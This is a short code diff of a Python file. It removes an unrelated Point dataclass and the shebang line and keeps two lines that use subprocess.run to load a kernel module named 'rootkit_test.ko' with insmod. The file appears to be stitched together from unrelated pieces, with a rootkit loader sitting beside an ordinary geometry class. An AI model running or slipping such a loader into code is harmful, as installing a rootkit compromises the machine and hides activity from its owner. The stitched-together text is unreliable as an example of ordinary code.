@@ -1,13 +1,3 @@
-#!/usr/bin/env python3
 
 import subprocess
 subprocess.run(["insmod", "rootkit_test.ko"])
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
